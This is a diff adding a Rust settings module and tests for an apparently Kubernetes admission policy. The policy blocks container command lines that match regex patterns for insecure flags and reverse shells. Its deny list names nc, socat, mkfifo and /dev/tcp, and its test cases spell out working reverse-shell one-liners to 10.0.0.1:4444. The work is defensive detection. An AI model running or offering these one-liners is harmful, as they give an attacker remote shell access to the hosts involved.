@@ -0,0 +1,144 @@
+use std::collections::BTreeMap;
+
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+
+// Flags disabling the authentication or the TLS verification, and the usual
+// reverse shell one-liners
+const DEFAULT_DENIED_PATTERNS: &[&str] = &[
+    "--insecure",
+    "--anonymous-auth=true",
+    "--kubelet-insecure-tls",
+    "/dev/(tcp|udp)/",
+    r"\b(nc|ncat|netcat)\b.*\s-[ce]\s",
+    r"\bsocat\b.*\bexec:",
+    r"\bmkfifo\b.*\b(nc|ncat|netcat)\b",
+];
+
+/// Denied patterns of the containers of a namespace
+#[derive(Serialize, Deserialize, Debug, Clone, Default)]
+#[serde(default, rename_all = "camelCase", deny_unknown_fields)]
+pub(crate) struct NamespaceSettings {
+    /// Regular expressions replacing the global ones in the namespace. The
+    /// policy accepts all the containers of the namespace when empty.
+    pub denied_patterns: Vec<String>,
+}
+
+// Describe the settings your policy expects when
+// loaded by the policy server.
+#[derive(Serialize, Deserialize, Debug, Clone)]
+#[serde(default, rename_all = "camelCase")]
+pub(crate) struct Settings {
+    /// Regular expressions the command lines of the containers must not
+    /// match
+    pub denied_patterns: Vec<String>,
+    /// Denied patterns of the namespaces that do not use the global ones
+    pub namespaces: BTreeMap<String, NamespaceSettings>,
+}
+
+impl Default for Settings {
+    fn default() -> Self {
+        Settings {
+            denied_patterns: DEFAULT_DENIED_PATTERNS
+                .iter()
+                .map(|pattern| pattern.to_string())
+                .collect(),
+            namespaces: BTreeMap::new(),
+        }
+    }
+}
+
+impl Settings {
+    /// Returns the denied patterns of the namespace, the global ones when
+    /// the namespace has none
+    pub fn denied_patterns_of(&self, namespace: &str) -> &[String] {
+        self.namespaces
+            .get(namespace)
+            .map(|namespace| &namespace.denied_patterns)
+            .unwrap_or(&self.denied_patterns)
+    }
+}
+
+/// Compiles the patterns. They match anywhere in the command line, unless
+/// they are anchored.
+pub(crate) fn compile(patterns: &[String]) -> Result<Vec<Regex>, String> {
+    patterns
+        .iter()
+        .map(|pattern| Regex::new(pattern).map_err(|e| format!("invalid pattern '{pattern}': {e}")))
+        .collect()
+}
+
+impl kubewarden::settings::Validatable for Settings {
+    fn validate(&self) -> Result<(), String> {
+        compile(&self.denied_patterns)?;
+        for (namespace, settings) in &self.namespaces {
+            compile(&settings.denied_patterns)
+                .map_err(|e| format!("namespace '{namespace}': {e}"))?;
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    use kubewarden_policy_sdk::settings::Validatable;
+    use rstest::rstest;
+
+    #[rstest]
+    #[case::defaults(r#"{}"#, true)]
+    #[case::namespaces(
+        r#"{"namespaces": {"kube-system": {"deniedPatterns": ["--anonymous-auth=true"]}, "sandbox": {}}}"#,
+        true
+    )]
+    #[case::invalid_pattern(r#"{"deniedPatterns": ["--insecure("]}"#, false)]
+    #[case::invalid_namespace_pattern(
+        r#"{"namespaces": {"sandbox": {"deniedPatterns": ["[a-z"]}}}"#,
+        false
+    )]
+    fn validate_settings(#[case] settings: &str, #[case] is_valid: bool) {
+        let settings: Settings = serde_json::from_str(settings).expect("cannot parse settings");
+        assert_eq!(settings.validate().is_ok(), is_valid);
+    }
+
+    #[test]
+    fn unknown_namespace_setting() {
+        let settings = r#"{"namespaces": {"sandbox": {"deniedPattern": ["--insecure"]}}}"#;
+        assert!(serde_json::from_str::<Settings>(settings).is_err());
+    }
+
+    #[rstest]
+    #[case::default_pattern("kubectl --insecure-skip-tls-verify get pods", true)]
+    #[case::anonymous_auth("kube-apiserver --anonymous-auth=true", true)]
+    #[case::anonymous_auth_disabled("kube-apiserver --anonymous-auth=false", false)]
+    #[case::dev_tcp("bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true)]
+    #[case::netcat("sh -c nc 10.0.0.1 4444 -e /bin/sh", true)]
+    #[case::netcat_listener("nc -l -p 8080", false)]
+    #[case::socat("socat tcp:10.0.0.1:4444 exec:/bin/sh", true)]
+    #[case::mkfifo(
+        "sh -c mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+        true
+    )]
+    #[case::regular_command("nginx -g daemon off;", false)]
+    fn default_patterns(#[case] command_line: &str, #[case] denied: bool) {
+        let patterns = compile(&Settings::default().denied_patterns).expect("invalid patterns");
+        assert_eq!(
+            patterns
+                .iter()
+                .any(|pattern| pattern.is_match(command_line)),
+            denied
+        );
+    }
+
+    #[test]
+    fn namespace_patterns() {
+        let settings: Settings = serde_json::from_str(r#"{"namespaces": {"sandbox": {}}}"#)
+            .expect("cannot parse settings");
+        assert!(settings.denied_patterns_of("sandbox").is_empty());
+        assert_eq!(
+            settings.denied_patterns_of("default"),
+            Settings::default().denied_patterns
+        );
+    }
+}